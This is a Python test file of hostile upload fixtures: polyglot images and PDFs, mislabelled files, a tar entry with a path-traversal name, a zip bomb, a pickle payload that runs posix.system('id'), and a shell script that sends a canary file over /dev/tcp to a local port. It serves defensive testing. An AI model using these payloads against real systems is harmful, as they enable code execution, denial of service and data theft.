"""Files that are two things at once, or not what their names say."""

from __future__ import annotations

import gzip
import io
import sqlite3
import tarfile
import zipfile
from collections.abc import Callable

from tests.hostile import films, papers, pictures, sounds
from tests.hostile.case import Bait, Outcome, hostile, luring

_ALL: tuple[Outcome, ...] = ("failed", "skipped", "stored", "truncated")


def _both(name: str, make: Callable[[], bytes], *may: Outcome) -> None:
    hostile(name, "polyglot", *may)(make)


def archive(name: str = "inside.txt", content: bytes = b"words inside") -> bytes:
    """Give a ZIP of one member."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as file:
        file.writestr(zipfile.ZipInfo(name), content, zipfile.ZIP_DEFLATED)
    return out.getvalue()


def _tar() -> bytes:
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w") as file:
        file.addfile(tarfile.TarInfo("../../outside"), None)
    return out.getvalue()


def _database() -> bytes:
    with sqlite3.connect(":memory:") as store:
        store.execute("create table notes (words text)")
        return store.serialize()


_ELF = b"\x7fELF\2\1\1" + bytes(9) + b"\2\0\x3e\0\1" + bytes(90)
_PAGE = b"<!doctype html><html><body><p>this is a page of words</p></body></html>"

# one thing with another behind it: the first is what it is
_both("png-and-zip.png", lambda: pictures.encoded("PNG") + archive(), "stored")
_both("gif-and-jar.gif", lambda: pictures.encoded("GIF") + archive("A.class"), "stored")
_both("jpeg-and-zip.jpg", lambda: pictures.encoded("JPEG") + archive(), "stored")
_both("pdf-and-zip.pdf", lambda: papers.paper() + archive(), "stored")
_both("zip-and-pdf.pdf", lambda: archive() + papers.paper(), *_ALL)
_both("jpeg-and-page.jpg", lambda: pictures.encoded("JPEG") + _PAGE, "stored")
_both("wav-and-script.wav", lambda: sounds.encoded("wav") + b"\n#!/bin/sh\necho owned\n", "stored")
_both("mp4-and-pdf.mp4", lambda: films.encoded("mp4") + papers.paper(), "stored", "truncated")
_both("pdf-behind-gif.gif", lambda: pictures.encoded("GIF") + papers.paper(), "stored")
_both("gif-before-pdf.pdf", lambda: pictures.encoded("GIF")[:10] + papers.paper(), *_ALL)
_both("words-before.pdf", lambda: b"words " * 150 + papers.paper(), *_ALL)

# right things under wrong names: what they hold decides
_both("jpeg.png", lambda: pictures.encoded("JPEG"), "stored")
_both("png.txt", lambda: pictures.encoded("PNG"), "stored")
_both("png.pdf", lambda: pictures.encoded("PNG"), "stored")
_both("pdf.jpg", lambda: papers.paper(), "stored")
_both("mp4.jpg", lambda: films.encoded("mp4"), "stored", "truncated")
_both("wav.mp4", lambda: sounds.encoded("wav"), "stored")
_both("mp3.pdf", lambda: sounds.encoded("mp3"), "stored")
_both("flac.md", lambda: sounds.encoded("flac"), "stored")
_both("gif.mp3", lambda: pictures.encoded("GIF"), "stored")
_both("png-without-a-name", lambda: pictures.encoded("PNG"), "stored")
_both("pdf-of-another.docx", lambda: papers.paper(), "stored")

# what is no medium under the name of one
for _end in ("jpg", "mp3", "mp4", "pdf"):
    _both(f"page.{_end}", lambda: _PAGE, "failed", "stored")
    _both(f"program.{_end}", lambda: _ELF, "failed", "skipped")
    _both(f"zip.{_end}", archive, "failed", "skipped")
    _both(f"database.{_end}", _database, "failed", "skipped")
_both("gzip.txt", lambda: gzip.compress(b"words " * 99, mtime=0), "failed", "skipped")
_both("tar.md", _tar, "failed", "skipped")
_both("class.html", lambda: b"\xca\xfe\xba\xbe\0\0\0\x34" + bytes(200), "failed", "skipped")
_both("office.docx", lambda: archive("word/document.xml", b"<w/>"), "skipped")
_both("zip-of-zeros.docx", lambda: archive("word/a.xml", bytes(1 << 26)), "failed")
_both("pickle.json", lambda: b"\x80\x04\x8c\x05posix\x8c\x06system\x93\x8c\x02id\x85R.", *_ALL)


@luring("shell.jpg", "polyglot", "failed", "stored")
def _script(bait: Bait) -> bytes:
    return f"#!/bin/sh\ncat {bait.canary} > /dev/tcp/127.0.0.1/{bait.port}\n".encode()
